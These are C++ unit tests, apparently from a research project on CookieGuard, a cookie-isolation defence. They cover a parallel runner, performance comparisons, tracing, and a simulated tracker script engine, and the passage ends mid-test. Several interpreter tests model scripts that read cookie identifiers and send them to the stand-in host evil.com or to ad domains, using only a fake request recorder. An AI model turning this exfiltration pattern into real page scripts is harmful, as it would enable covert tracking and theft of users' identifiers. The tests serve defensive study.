  window.fail(std::make_exception_ptr(std::runtime_error("boom")));
  producer.join();
  EXPECT_TRUE(window.failed());
  EXPECT_THROW(window.pop(), std::runtime_error);
}

// ---- ShardedRunner -------------------------------------------------------

TEST(ShardedRunnerTest, MergesEveryIndexInOrder) {
  ShardOptions options;
  options.threads = 8;
  options.block_size = 3;
  ShardedRunner runner(options);
  std::vector<int> merged;
  runner.run<int>(
      0, 100, [](int index, int) { return index * index; },
      [&](int index, int&& value) {
        EXPECT_EQ(value, index * index);
        merged.push_back(index);
      });
  std::vector<int> expected(100);
  std::iota(expected.begin(), expected.end(), 0);
  EXPECT_EQ(merged, expected);
}

TEST(ShardedRunnerTest, NonZeroFirstIndexAndEmptyRange) {
  ShardOptions options;
  options.threads = 4;
  ShardedRunner runner(options);
  std::vector<int> merged;
  runner.run<int>(
      50, 60, [](int index, int) { return index; },
      [&](int, int&& value) { merged.push_back(value); });
  EXPECT_EQ(merged, (std::vector<int>{50, 51, 52, 53, 54, 55, 56, 57, 58, 59}));

  merged.clear();
  runner.run<int>(
      10, 10, [](int index, int) { return index; },
      [&](int, int&& value) { merged.push_back(value); });
  EXPECT_TRUE(merged.empty());  // empty range is a no-op
}

TEST(ShardedRunnerTest, TightestWindowAndBlockSizeStillComplete) {
  // capacity 1 + block 1 is the maximally contended configuration: every
  // push waits for the merge cursor. A deadlock here is the bug class the
  // front-stealing design exists to rule out.
  ShardOptions options;
  options.threads = 8;
  options.block_size = 1;
  options.queue_capacity = 1;
  ShardedRunner runner(options);
  int sum = 0;
  runner.run<int>(
      0, 64, [](int index, int) { return index; },
      [&](int, int&& value) { sum += value; });
  EXPECT_EQ(sum, 64 * 63 / 2);
}

TEST(ShardedRunnerTest, WorkerExceptionPropagatesWithoutHanging) {
  ShardOptions options;
  options.threads = 4;
  options.queue_capacity = 2;  // small window: others block when 13 throws
  ShardedRunner runner(options);
  EXPECT_THROW(
      runner.run<int>(
          0, 200,
          [](int index, int) {
            if (index == 13) throw std::runtime_error("site 13 exploded");
            return index;
          },
          [](int, int&&) {}),
      std::runtime_error);
}

TEST(ShardedRunnerTest, MergeExceptionPropagatesWithoutHanging) {
  ShardOptions options;
  options.threads = 4;
  options.queue_capacity = 2;
  ShardedRunner runner(options);
  int merged = 0;
  EXPECT_THROW(
      runner.run<int>(
          0, 200, [](int index, int) { return index; },
          [&](int index, int&&) {
            if (index == 17) throw std::runtime_error("merge rejected 17");
            ++merged;
          }),
      std::runtime_error);
  EXPECT_EQ(merged, 17);  // indices 0..16 merged in order before the throw
}

TEST(ShardedRunnerTest, ParallelRunMatchesSequentialFold) {
  // The determinism contract in miniature: an order-independent worker plus
  // the in-order merge reproduces the sequential fold exactly, here a
  // non-commutative string fold that would expose any reordering.
  const auto work = [](int index, int) { return std::to_string(index); };
  std::string sequential;
  for (int i = 0; i < 150; ++i) sequential += work(i, 0) + ",";

  for (const int threads : {2, 4, 8}) {
    ShardOptions options;
    options.threads = threads;
    options.block_size = 4;
    ShardedRunner runner(options);
    std::string parallel;
    runner.run<std::string>(0, 150, work, [&](int, std::string&& value) {
      parallel += value + ",";
    });
    EXPECT_EQ(parallel, sequential) << threads << " threads";
  }
}

TEST(ShardedRunnerTest, RunStatsAccountForEveryIndex) {
  ShardOptions options;
  options.threads = 4;
  options.block_size = 2;
  options.queue_capacity = 16;
  ShardedRunner runner(options);
  constexpr int kIndices = 120;
  int merged = 0;
  runner.run<int>(
      0, kIndices, [](int index, int) { return index; },
      [&](int, int&&) { ++merged; });
  EXPECT_EQ(merged, kIndices);

  const auto& stats = runner.last_run_stats();
  ASSERT_EQ(stats.workers.size(), 4u);
  // One pool task per block of indices, each executed exactly once.
  EXPECT_EQ(stats.total_executed(),
            (kIndices + options.block_size - 1) / options.block_size);
  EXPECT_LE(stats.total_stolen(), stats.total_executed());
  // Every index passed through the merge window exactly once.
  EXPECT_EQ(stats.merge.pushes, kIndices);
  EXPECT_GE(stats.merge.max_occupancy, 1);
  EXPECT_LE(stats.merge.max_occupancy,
            static_cast<std::int64_t>(options.queue_capacity));
  EXPECT_GE(stats.merge.blocked_pushes, 0);
}

}  // namespace
}  // namespace cg::runtime
