// Tests for the performance comparison pipeline (Table 4).
#include <gtest/gtest.h>

#include "perf/perf.h"

namespace cg::perf {
namespace {

TEST(SummarizeTest, MeanAndMedian) {
  const auto s = summarize({100, 200, 300, 400, 1000});
  EXPECT_DOUBLE_EQ(s.mean_ms, 400.0);
  EXPECT_EQ(s.median_ms, 300);
}

TEST(SummarizeTest, EmptyInput) {
  const auto s = summarize({});
  EXPECT_DOUBLE_EQ(s.mean_ms, 0.0);
  EXPECT_EQ(s.median_ms, 0);
}

TEST(SummarizeTest, SingleSample) {
  const auto s = summarize({42});
  EXPECT_DOUBLE_EQ(s.mean_ms, 42.0);
  EXPECT_EQ(s.median_ms, 42);
}

class PerfComparisonTest : public ::testing::Test {
 protected:
  static const corpus::Corpus& corpus() {
    static const corpus::CorpusParams params = [] {
      corpus::CorpusParams p;
      p.site_count = 120;
      return p;
    }();
    static const corpus::Corpus instance(params);
    return instance;
  }
};

TEST_F(PerfComparisonTest, CookieGuardAddsOverhead) {
  cookieguard::CookieGuardConfig config;
  const auto comparison = compare_page_load(corpus(), 120, config);
  EXPECT_GT(comparison.mean_overhead_ms, 0);
  EXPECT_GT(comparison.guarded.dom_content_loaded.mean_ms,
            comparison.normal.dom_content_loaded.mean_ms);
  // dom_interactive fires before any script executes, so interception
  // cannot slow it: equal in both runs.
  EXPECT_DOUBLE_EQ(comparison.guarded.dom_interactive.mean_ms,
                   comparison.normal.dom_interactive.mean_ms);
  // Ordering invariants hold in both runs.
  EXPECT_LE(comparison.normal.dom_interactive.mean_ms,
            comparison.normal.dom_content_loaded.mean_ms);
  EXPECT_LE(comparison.normal.dom_content_loaded.mean_ms,
            comparison.normal.load_event.mean_ms);
}

TEST_F(PerfComparisonTest, OverheadScalesWithPerCallCost) {
  cookieguard::CookieGuardConfig cheap;
  cheap.api_overhead_ms = 1;
  cookieguard::CookieGuardConfig expensive;
  expensive.api_overhead_ms = 10;
  const auto a = compare_page_load(corpus(), 60, cheap);
  const auto b = compare_page_load(corpus(), 60, expensive);
  EXPECT_GT(b.mean_overhead_ms, a.mean_overhead_ms);
}

TEST_F(PerfComparisonTest, MedianReportedFromSameDistribution) {
  cookieguard::CookieGuardConfig config;
  const auto comparison = compare_page_load(corpus(), 60, config);
  EXPECT_GT(comparison.normal.load_event.median_ms, 0);
  EXPECT_GE(comparison.normal.load_event.mean_ms,
            comparison.normal.dom_content_loaded.mean_ms);
}

}  // namespace
}  // namespace cg::perf
