// Tests for the observability subsystem: deterministic metrics
// (counter/gauge/histogram merge must be shard-order independent) and the
// virtual-time trace pipeline (null sink, detail filtering, Chrome
// trace-event export, streaming/in-memory equivalence, per-track
// monotonicity after the stable-sorted merge).
#include <gtest/gtest.h>

#include <limits>
#include <map>
#include <sstream>
#include <string>
#include <vector>

#include "obs/metrics.h"
#include "obs/trace.h"
#include "report/json.h"

namespace cg::obs {
namespace {

// ---- Histogram -----------------------------------------------------------

TEST(HistogramTest, BoundsAreInclusiveUpperEdges) {
  Histogram h({10, 20, 30});
  h.observe(5);    // <= 10
  h.observe(10);   // <= 10 (inclusive)
  h.observe(15);   // <= 20
  h.observe(30);   // <= 30
  h.observe(31);   // overflow
  EXPECT_EQ(h.buckets()[0], 2);
  EXPECT_EQ(h.buckets()[1], 1);
  EXPECT_EQ(h.buckets()[2], 1);
  EXPECT_EQ(h.overflow(), 1);
  EXPECT_EQ(h.count(), 5);
  EXPECT_DOUBLE_EQ(h.sum(), 91);
}

TEST(HistogramTest, NonFiniteObservationsAreDroppedAndCounted) {
  Histogram h({1});
  h.observe(std::numeric_limits<double>::quiet_NaN());
  h.observe(std::numeric_limits<double>::infinity());
  h.observe(-std::numeric_limits<double>::infinity());
  h.observe(0.5);
  EXPECT_EQ(h.count(), 1);
  EXPECT_EQ(h.dropped_non_finite(), 3);
  // The dump stays valid JSON no matter what was observed.
  const std::string dump = h.to_json().dump();
  EXPECT_TRUE(report::Json::parse(dump).has_value()) << dump;
}

TEST(HistogramTest, MergeAddsBucketwise) {
  Histogram a({10, 20});
  Histogram b({10, 20});
  a.observe(5);
  b.observe(15);
  b.observe(100);
  a.merge(b);
  EXPECT_EQ(a.buckets()[0], 1);
  EXPECT_EQ(a.buckets()[1], 1);
  EXPECT_EQ(a.overflow(), 1);
  EXPECT_EQ(a.count(), 3);
}

TEST(HistogramTest, MergeMismatchedBoundsDropsAndCounts) {
  Histogram a({10, 20});
  Histogram b({10, 30});
  b.observe(25);
  a.merge(b);
  EXPECT_EQ(a.count(), 0);
  EXPECT_EQ(a.merge_conflicts(), 1);
}

TEST(HistogramTest, MergeIntoDefaultSlotAdoptsShape) {
  Histogram empty;
  Histogram b({10, 20});
  b.observe(15);
  empty.merge(b);
  EXPECT_EQ(empty.bounds(), b.bounds());
  EXPECT_EQ(empty.count(), 1);
  EXPECT_EQ(empty.buckets()[1], 1);
}

// ---- MetricsRegistry ----------------------------------------------------

TEST(MetricsRegistryTest, CountersGaugesHistograms) {
  MetricsRegistry m;
  m.add("c");
  m.add("c", 4);
  m.gauge_max("g", 3);
  m.gauge_max("g", 2);  // lower: ignored
  m.observe("h", {10}, 7);
  EXPECT_EQ(m.counter("c"), 5);
  EXPECT_EQ(m.gauge("g"), 3);
  ASSERT_NE(m.find_histogram("h"), nullptr);
  EXPECT_EQ(m.find_histogram("h")->count(), 1);
  EXPECT_EQ(m.counter("missing"), 0);
  EXPECT_FALSE(m.empty());
}

// The determinism contract: fold the same per-site observations through
// any shard grouping — {1, 2, 4, 8} "threads" — and the serialized
// registry is byte-identical.
TEST(MetricsRegistryTest, MergeIsShardCountIndependent) {
  constexpr int kSites = 40;
  const auto observe_site = [](MetricsRegistry& m, int site) {
    m.add("sites");
    m.add("weighted", site % 5);
    m.gauge_max("max_rank", site);
    m.observe("latency", {10, 100, 1000}, site * 7.5);
  };

  std::string reference;
  for (const int shards : {1, 2, 4, 8}) {
    // Deal sites round-robin into per-shard registries, then fold them in
    // shard order — the same reduction the crawl merge performs.
    std::vector<MetricsRegistry> per_shard(shards);
    for (int site = 0; site < kSites; ++site) {
      observe_site(per_shard[site % shards], site);
    }
    MetricsRegistry total;
    for (const auto& shard : per_shard) total.merge(shard);
    const std::string dump = total.to_json().dump();
    if (reference.empty()) {
      reference = dump;
    } else {
      EXPECT_EQ(dump, reference) << "shards=" << shards;
    }
  }
  EXPECT_FALSE(reference.empty());
}

TEST(MetricsRegistryTest, SerializesSortedAndParseable) {
  MetricsRegistry m;
  m.add("z");
  m.add("a");
  const std::string dump = m.to_json().dump();
  EXPECT_LT(dump.find("\"a\""), dump.find("\"z\""));
  EXPECT_TRUE(report::Json::parse(dump).has_value());
}

// ---- null sink / scope ---------------------------------------------------

TEST(ObsScopeTest, NoScopeMeansNoEffectAndNoCrash) {
  EXPECT_EQ(current(), nullptr);
  EXPECT_FALSE(armed(Detail::kCrawl));
  EXPECT_EQ(metrics(), nullptr);
  span(Detail::kCrawl, "t", "s", 1, 2);
  instant(Detail::kCrawl, "t", "i", 3);
  counter_sample(Detail::kCrawl, "t", "c", 4, 5);
  metric_add("x");  // cglint: allow(M1) — scratch name exercising the null-scope path, not a fleet metric
  metric_observe("h", {1.0}, 0.5);  // cglint: allow(M1) — scratch name exercising the null-scope path, not a fleet metric
}

TEST(ObsScopeTest, BindsAndRestoresNested) {
  LocalObs outer;
  outer.metrics_enabled = true;
  {
    ObsScope bind_outer(&outer);
    EXPECT_EQ(current(), &outer);
    metric_add("depth");  // cglint: allow(M1) — scratch name exercising scope nesting, not a fleet metric
    {
      LocalObs inner;
      inner.metrics_enabled = true;
      ObsScope bind_inner(&inner);
      metric_add("depth");  // cglint: allow(M1) — scratch name exercising scope nesting, not a fleet metric
      EXPECT_EQ(inner.metrics.counter("depth"), 1);
    }
    EXPECT_EQ(current(), &outer);
    metric_add("depth");  // cglint: allow(M1) — scratch name exercising scope nesting, not a fleet metric
  }
  EXPECT_EQ(current(), nullptr);
  EXPECT_EQ(outer.metrics.counter("depth"), 2);
}

TEST(ObsScopeTest, DisarmedTraceDropsEventsButMetricsStillFlow) {
  LocalObs obs;  // trace never armed
  obs.metrics_enabled = true;
  ObsScope scope(&obs);
  span(Detail::kCrawl, "t", "s", 1, 2);
  metric_add("c");  // cglint: allow(M1) — scratch name proving metrics flow while tracing is disarmed
  EXPECT_TRUE(obs.trace.empty());
  EXPECT_EQ(obs.metrics.counter("c"), 1);
}

TEST(TraceBufferTest, DetailFiltersFullEventsAtCrawlLevel) {
  LocalObs obs;
  obs.trace.arm(/*track=*/3, Detail::kCrawl, /*capture_wall=*/false);
  ObsScope scope(&obs);
  span(Detail::kCrawl, "crawl", "kept", 1, 2);
  span(Detail::kFull, "eventloop", "dropped", 3, 4);
  EXPECT_FALSE(armed(Detail::kFull));
  ASSERT_EQ(obs.trace.events().size(), 1u);
  EXPECT_EQ(obs.trace.events()[0].name, "kept");
  EXPECT_EQ(obs.trace.events()[0].track, 3);
  EXPECT_EQ(obs.trace.events()[0].wall_us, -1);
}

TEST(TraceBufferTest, WallClockCapturedOnlyWhenConfigured) {
  LocalObs obs;
  obs.trace.arm(1, Detail::kFull, /*capture_wall=*/true);
  ObsScope scope(&obs);
  instant(Detail::kCrawl, "t", "i", 5);
  ASSERT_EQ(obs.trace.events().size(), 1u);
  EXPECT_GE(obs.trace.events()[0].wall_us, 0);
}

// ---- TraceRecorder -------------------------------------------------------

TraceBuffer filled_buffer(int track, std::vector<TimeMillis> ts) {
  TraceBuffer buffer;
  buffer.arm(track, Detail::kFull, false);
  for (const TimeMillis t : ts) {
    TraceEvent event;
    event.phase = 'X';
    event.ts_ms = t;
    event.dur_ms = 10;
    event.category = "test";
    // Append, not operator+: GCC 12 -Wrestrict false positive (PR 105329).
    event.name = "e";
    event.name += std::to_string(t);
    buffer.push(std::move(event));
  }
  return buffer;
}

TEST(TraceRecorderTest, AppendStableSortsEachBufferByVirtualTime) {
  TraceRecorder recorder;
  recorder.append(filled_buffer(1, {30, 10, 20}));
  recorder.append(filled_buffer(2, {5, 15}));
  ASSERT_EQ(recorder.event_count(), 5u);
  const auto& events = recorder.events();
  EXPECT_EQ(events[0].ts_ms, 10);
  EXPECT_EQ(events[1].ts_ms, 20);
  EXPECT_EQ(events[2].ts_ms, 30);
  // Buffers stay in append (site-index) order; within each, sorted.
  EXPECT_EQ(events[3].ts_ms, 5);
  EXPECT_EQ(events[3].track, 2);
  EXPECT_EQ(recorder.last_ts_ms(), 40);  // max span end seen so far
}

TEST(TraceRecorderTest, DriverEventsRideAtRunningMaxTimestamp) {
  TraceRecorder recorder;
  recorder.append(filled_buffer(1, {100}));
  recorder.driver_instant("crawl", "checkpoint", "n=1");
  recorder.driver_counter("crawl", "done", 1);
  const auto& events = recorder.events();
  ASSERT_EQ(events.size(), 3u);
  EXPECT_EQ(events[1].track, 0);
  EXPECT_EQ(events[1].ts_ms, 110);  // span end of the 100+10 event
  EXPECT_EQ(events[2].value, 1);
  EXPECT_EQ(events[2].phase, 'C');
}

TEST(TraceRecorderTest, ExportsValidChromeTraceJson) {
  TraceRecorder recorder;
  recorder.append(filled_buffer(1, {10}));
  LocalObs obs;
  recorder.arm(obs, 2, /*with_metrics=*/false);
  {
    ObsScope scope(&obs);
    instant(Detail::kCrawl, "fault", "dns_failure", 20, "host=a.com");
    counter_sample(Detail::kCrawl, "crawl", "queue", 30, 7);
  }
  recorder.append(std::move(obs.trace));

  const std::string json = recorder.to_chrome_json();
  const auto parsed = report::Json::parse(json);
  ASSERT_TRUE(parsed.has_value()) << json;
  const auto* events = parsed->find("traceEvents");
  ASSERT_NE(events, nullptr);
  ASSERT_TRUE(events->is_array());
  ASSERT_EQ(events->size(), 3u);

  const auto& span_event = events->at(0);
  EXPECT_EQ(span_event.find("ph")->as_string(), "X");
  EXPECT_EQ(span_event.find("pid")->as_int(), 1);
  EXPECT_EQ(span_event.find("tid")->as_int(), 1);
  EXPECT_EQ(span_event.find("ts")->as_int(), 10'000);   // microseconds
  EXPECT_EQ(span_event.find("dur")->as_int(), 10'000);

  const auto& instant_event = events->at(1);
  EXPECT_EQ(instant_event.find("ph")->as_string(), "i");
  EXPECT_EQ(instant_event.find("name")->as_string(), "dns_failure");
  EXPECT_EQ(instant_event.find("args")->find("detail")->as_string(),
            "host=a.com");

  const auto& counter_event = events->at(2);
  EXPECT_EQ(counter_event.find("ph")->as_string(), "C");
  EXPECT_EQ(counter_event.find("args")->find("value")->as_int(), 7);
}

TEST(TraceRecorderTest, StreamingMatchesInMemoryByteForByte) {
  const auto feed = [](TraceRecorder& recorder) {
    recorder.append(filled_buffer(1, {30, 10}));
    recorder.driver_instant("crawl", "checkpoint");
    recorder.append(filled_buffer(2, {20}));
  };
  TraceRecorder memory;
  feed(memory);

  std::ostringstream stream;
  {
    TraceRecorder streaming({}, &stream);
    feed(streaming);
    streaming.finish();
    streaming.finish();  // idempotent
  }
  EXPECT_EQ(stream.str(), memory.to_chrome_json());
}

TEST(TraceRecorderTest, EmptyTraceIsStillValidJson) {
  std::ostringstream stream;
  {
    TraceRecorder recorder({}, &stream);
  }  // destructor finishes the document
  const auto parsed = report::Json::parse(stream.str());
  ASSERT_TRUE(parsed.has_value()) << stream.str();
  EXPECT_EQ(parsed->find("traceEvents")->size(), 0u);
}

TEST(TraceRecorderTest, EventJsonEscapesNamesAndArgs) {
  TraceEvent event;
  event.phase = 'i';
  event.ts_ms = 1;
  event.category = "test";
  event.name = "quote\"and\\slash";
  event.arg = "line\nbreak";
  const std::string json = TraceRecorder::event_json(event);
  const auto parsed = report::Json::parse(json);
  ASSERT_TRUE(parsed.has_value()) << json;
  EXPECT_EQ(parsed->find("name")->as_string(), "quote\"and\\slash");
  EXPECT_EQ(parsed->find("args")->find("detail")->as_string(), "line\nbreak");
}

// A traced parallel merge reproduced in miniature: per-track timestamps
// stay non-decreasing regardless of the order events entered each buffer.
TEST(TraceRecorderTest, PerTrackMonotoneAfterMerge) {
  TraceRecorder recorder;
  recorder.append(filled_buffer(1, {50, 10, 30}));
  recorder.append(filled_buffer(2, {40, 20}));
  recorder.append(filled_buffer(1, {70, 60}));  // same track, later append
  std::map<int, TimeMillis> last;
  for (const auto& event : recorder.events()) {
    const auto it = last.find(event.track);
    if (it != last.end()) {
      EXPECT_GE(event.ts_ms, it->second);
    }
    last[event.track] = event.ts_ms;
  }
}

}  // namespace
}  // namespace cg::obs
