// Unit tests for the script engine: template expansion, cookie-string
// parsing, identifier extraction, encodings, and op interpretation against a
// fake PageServices.
#include <gtest/gtest.h>

#include <map>
#include <string>
#include <vector>

#include "crypto/base64.h"
#include "crypto/md5.h"
#include "script/interpreter.h"
#include "script/ops.h"
#include "script/rng.h"
#include "webplat/dom.h"

namespace cg::script {
namespace {

// ---------------------------------------------------------- templates ----

TEST(TemplateTest, ExpandsTimestamps) {
  Rng rng(1);
  EXPECT_EQ(expand_template("t={ts}", rng, 1746838827000),
            "t=1746838827");
  EXPECT_EQ(expand_template("t={ts_ms}", rng, 1746838827000),
            "t=1746838827000");
}

TEST(TemplateTest, ExpandsRandomDigitsAndHex) {
  Rng rng(2);
  const auto digits = expand_template("{rand:9}", rng, 0);
  EXPECT_EQ(digits.size(), 9u);
  EXPECT_NE(digits[0], '0');  // tracker ids avoid leading zeros
  const auto hex = expand_template("{hex:16}", rng, 0);
  EXPECT_EQ(hex.size(), 16u);
  EXPECT_EQ(hex.find_first_not_of("0123456789abcdef"), std::string::npos);
}

TEST(TemplateTest, MixedTemplateLikeGa) {
  Rng rng(3);
  const auto value = expand_template("GA1.1.{rand:9}.{ts}", rng, 1746000000000);
  EXPECT_TRUE(value.starts_with("GA1.1."));
  EXPECT_TRUE(value.ends_with(".1746000000"));
}

TEST(TemplateTest, UnknownPlaceholderKeptVerbatim) {
  Rng rng(4);
  EXPECT_EQ(expand_template("x={nope}", rng, 0), "x={nope}");
}

TEST(TemplateTest, UnterminatedBraceKept) {
  Rng rng(5);
  EXPECT_EQ(expand_template("x={ts", rng, 0), "x={ts");
}

TEST(TemplateTest, DeterministicGivenSameRngState) {
  Rng a(42), b(42);
  EXPECT_EQ(expand_template("{hex:32}", a, 0), expand_template("{hex:32}", b, 0));
}

// ------------------------------------------------------- cookie string ----

TEST(CookieStringTest, ParsesPairs) {
  const auto jar = parse_cookie_string("_ga=GA1.1.1; _fbp=fb.1.2; flag");
  ASSERT_EQ(jar.size(), 3u);
  EXPECT_EQ(jar[0].name, "_ga");
  EXPECT_EQ(jar[0].value, "GA1.1.1");
  EXPECT_EQ(jar[2].name, "flag");
  EXPECT_EQ(jar[2].value, "");
}

TEST(CookieStringTest, EmptyString) {
  EXPECT_TRUE(parse_cookie_string("").empty());
}

TEST(CookieStringTest, ValueWithEquals) {
  const auto jar = parse_cookie_string("k=a=b");
  ASSERT_EQ(jar.size(), 1u);
  EXPECT_EQ(jar[0].value, "a=b");
}

// ------------------------------------------------ identifier extraction ----

TEST(IdentifierTest, SplitsOnNonAlnumAndKeepsLongSegments) {
  // The paper's _ga example: GA1.1.444332364.1746838827 (§4.3).
  const auto segments =
      extract_identifier_segments("GA1.1.444332364.1746838827");
  ASSERT_EQ(segments.size(), 2u);
  EXPECT_EQ(segments[0], "444332364");
  EXPECT_EQ(segments[1], "1746838827");
}

TEST(IdentifierTest, FbpExample) {
  // §5.4: fb.0.1746746266109.868308499845957651.
  const auto segments =
      extract_identifier_segments("fb.0.1746746266109.868308499845957651");
  ASSERT_EQ(segments.size(), 2u);
  EXPECT_EQ(segments[0], "1746746266109");
  EXPECT_EQ(segments[1], "868308499845957651");
}

TEST(IdentifierTest, ShortSegmentsDropped) {
  EXPECT_TRUE(extract_identifier_segments("light").empty());
  EXPECT_TRUE(extract_identifier_segments("a.b.c.1234567").empty());
}

TEST(IdentifierTest, WholeValueWithoutDelimiters) {
  const auto segments = extract_identifier_segments("deadbeefcafe1234");
  ASSERT_EQ(segments.size(), 1u);
  EXPECT_EQ(segments[0], "deadbeefcafe1234");
}

TEST(IdentifierTest, CustomMinLength) {
  EXPECT_EQ(extract_identifier_segments("abc.def", 3).size(), 2u);
}

// ----------------------------------------------------------- encodings ----

TEST(EncodeIdentifierTest, AllEncodings) {
  const std::string id = "444332364";
  EXPECT_EQ(encode_identifier(id, Encoding::kRaw), id);
  EXPECT_EQ(encode_identifier(id, Encoding::kBase64),
            crypto::base64_encode(id));
  EXPECT_EQ(encode_identifier(id, Encoding::kBase64Url),
            crypto::base64url_encode(id));
  EXPECT_EQ(encode_identifier(id, Encoding::kMd5), crypto::Md5::hex(id));
  EXPECT_EQ(encode_identifier(id, Encoding::kSha1).size(), 40u);
}

// -------------------------------------------------------- interpreter ----

/// In-memory PageServices capturing every call.
class FakeServices final : public PageServices {
 public:
  std::string document_cookie_read(const ExecContext&) override {
    ++reads;
    return jar_string;
  }
  void document_cookie_write(const ExecContext&,
                             std::string_view line) override {
    writes.emplace_back(line);
  }
  void cookie_store_get_all(
      const ExecContext&,
      std::function<void(std::vector<StoreCookie>)> cb) override {
    ++store_reads;
    cb(parse_cookie_string(jar_string));
  }
  void cookie_store_get(
      const ExecContext&, std::string_view name,
      std::function<void(std::optional<StoreCookie>)> cb) override {
    ++store_gets;
    for (const auto& c : parse_cookie_string(jar_string)) {
      if (c.name == name) {
        cb(c);
        return;
      }
    }
    cb(std::nullopt);
  }
  void cookie_store_set(const ExecContext&, std::string_view name,
                        std::string_view value) override {
    store_sets.emplace_back(std::string(name) + "=" + std::string(value));
  }
  void cookie_store_delete(const ExecContext&,
                           std::string_view name) override {
    store_deletes.emplace_back(name);
  }
  void send_request(const ExecContext&, const net::Url& url) override {
    requests.push_back(url.spec());
  }
  void inject_script(const ExecContext&, std::string_view id) override {
    injected.emplace_back(id);
  }
  void set_timeout(const ExecContext&, TimeMillis delay,
                   std::function<void()> cb, std::string_view helper) override {
    timeouts.push_back({delay, std::string(helper)});
    cb();  // run inline for testing
  }
  webplat::Document& main_document() override { return doc; }
  TimeMillis now() const override { return 1746838827000; }
  Rng& rng() override { return rng_; }

  std::string jar_string;
  int reads = 0;
  int store_reads = 0;
  int store_gets = 0;
  std::vector<std::string> writes, store_sets, store_deletes, requests,
      injected;
  std::vector<std::pair<TimeMillis, std::string>> timeouts;
  webplat::Document doc{net::Url::must_parse("https://example.com/")};
  Rng rng_{7};
};

ExecContext tracker_ctx() {
  ExecContext ctx;
  ctx.script_id = "tracker";
  ctx.script_url = "https://cdn.tracker.com/t.js";
  ctx.script_domain = "tracker.com";
  ctx.category = Category::kAdvertising;
  return ctx;
}

TEST(InterpreterTest, SetCookieWritesNameValueAndAttributes) {
  FakeServices services;
  run_program({set_cookie("_t", "{hex:8}", "; Path=/; Max-Age=60",
                          /*only_if_missing=*/false)},
              tracker_ctx(), services);
  ASSERT_EQ(services.writes.size(), 1u);
  EXPECT_TRUE(services.writes[0].starts_with("_t="));
  EXPECT_TRUE(services.writes[0].ends_with("; Path=/; Max-Age=60"));
}

TEST(InterpreterTest, OnlyIfMissingSkipsWhenPresent) {
  FakeServices services;
  services.jar_string = "_t=existing";
  run_program({set_cookie("_t", "{hex:8}")}, tracker_ctx(), services);
  EXPECT_TRUE(services.writes.empty());
  EXPECT_EQ(services.reads, 1);  // it checked the jar first
}

TEST(InterpreterTest, OverwriteOnlyTouchesVisibleTargets) {
  FakeServices services;
  services.jar_string = "_fbp=fb.1.1.2";
  run_program({overwrite({"_fbp", "_missing"}, "{hex:8}")}, tracker_ctx(),
              services);
  ASSERT_EQ(services.writes.size(), 1u);
  EXPECT_TRUE(services.writes[0].starts_with("_fbp="));
}

TEST(InterpreterTest, DeleteWritesPastExpiry) {
  FakeServices services;
  services.jar_string = "_uetvid=abc";
  run_program({delete_cookies({"_uetvid"})}, tracker_ctx(), services);
  ASSERT_EQ(services.writes.size(), 1u);
  EXPECT_NE(services.writes[0].find("Expires=Thu, 01 Jan 1970"),
            std::string::npos);
}

TEST(InterpreterTest, DeleteSkipsInvisibleCookies) {
  FakeServices services;
  services.jar_string = "";  // CookieGuard-filtered view
  run_program({delete_cookies({"_uetvid"})}, tracker_ctx(), services);
  EXPECT_TRUE(services.writes.empty());
}

TEST(InterpreterTest, ExfiltrateEmbedsIdentifierSegmentsInQuery) {
  FakeServices services;
  services.jar_string = "_ga=GA1.1.444332364.1746838827";
  run_program({exfiltrate({"_ga"}, "evil.com")}, tracker_ctx(), services);
  ASSERT_EQ(services.requests.size(), 1u);
  EXPECT_TRUE(services.requests[0].starts_with("https://evil.com/collect?"));
  EXPECT_NE(services.requests[0].find("444332364"), std::string::npos);
  EXPECT_NE(services.requests[0].find("1746838827"), std::string::npos);
}

TEST(InterpreterTest, ExfiltrateBase64EncodesLikeLinkedIn) {
  FakeServices services;
  services.jar_string = "_ga=GA1.1.444332364.1746838827";
  run_program({exfiltrate({"_ga"}, "px.ads.linkedin.com", Encoding::kBase64)},
              tracker_ctx(), services);
  ASSERT_EQ(services.requests.size(), 1u);
  // §5.4: 444332364 -> NDQ0MzMyMzY0
  EXPECT_NE(services.requests[0].find("NDQ0MzMyMzY0"), std::string::npos);
}

TEST(InterpreterTest, ExfiltrateNothingVisibleSendsNoRequest) {
  FakeServices services;
  services.jar_string = "";  // isolation hides everything
  run_program({exfiltrate({"_ga"}, "evil.com")}, tracker_ctx(), services);
  EXPECT_TRUE(services.requests.empty());
}

TEST(InterpreterTest, ExfiltrateWholeJar) {
  FakeServices services;
  services.jar_string = "a=aaaaaaaaaa1; b=bbbbbbbbbb2; short=x";
  run_program({exfiltrate_jar("bidder.com")}, tracker_ctx(), services);
  ASSERT_EQ(services.requests.size(), 1u);
  EXPECT_NE(services.requests[0].find("aaaaaaaaaa1"), std::string::npos);
  EXPECT_NE(services.requests[0].find("bbbbbbbbbb2"), std::string::npos);
  // "x" is too short to be an identifier: not shipped.
  EXPECT_EQ(services.requests[0].find("short="), std::string::npos);
}

TEST(InterpreterTest, StoreOpsGoThroughStoreApi) {
  FakeServices services;
  run_program({store_set_cookie("keep_alive", "{hex:12}"), store_get_all(),
               store_delete("keep_alive")},
              tracker_ctx(), services);
  ASSERT_EQ(services.store_sets.size(), 1u);
  EXPECT_TRUE(services.store_sets[0].starts_with("keep_alive="));
  EXPECT_EQ(services.store_reads, 1);
  ASSERT_EQ(services.store_deletes.size(), 1u);
}

TEST(InterpreterTest, InjectAndBeacon) {
  FakeServices services;
  run_program({inject("child-script"), beacon("px.t.com", "/p")},
              tracker_ctx(), services);
  ASSERT_EQ(services.injected.size(), 1u);
  EXPECT_EQ(services.injected[0], "child-script");
  ASSERT_EQ(services.requests.size(), 1u);
  EXPECT_TRUE(services.requests[0].starts_with("https://px.t.com/p?t="));
}

TEST(InterpreterTest, AsyncRunsNestedOpsThroughTimeout) {
  FakeServices services;
  services.jar_string = "_ga=GA1.1.123456789.1746838827";
  run_program({run_async(800, {exfiltrate({"_ga"}, "late.com")},
                         "https://cdn.helper.com/h.js")},
              tracker_ctx(), services);
  ASSERT_EQ(services.timeouts.size(), 1u);
  EXPECT_EQ(services.timeouts[0].first, 800);
  EXPECT_EQ(services.timeouts[0].second, "https://cdn.helper.com/h.js");
  EXPECT_EQ(services.requests.size(), 1u);  // nested op executed
}

TEST(InterpreterTest, DomOpsCreateAndModify) {
  FakeServices services;
  auto& foreign = services.doc.create_element("div", "example.com");
  services.doc.append_child(services.doc.body(), foreign, "example.com");

  run_program({create_dom("div"), modify_dom("div")}, tracker_ctx(),
              services);
  // One node created by tracker.com and the foreign div's text modified.
  bool tracker_created = false;
  for (auto* node : services.doc.elements_by_tag("div")) {
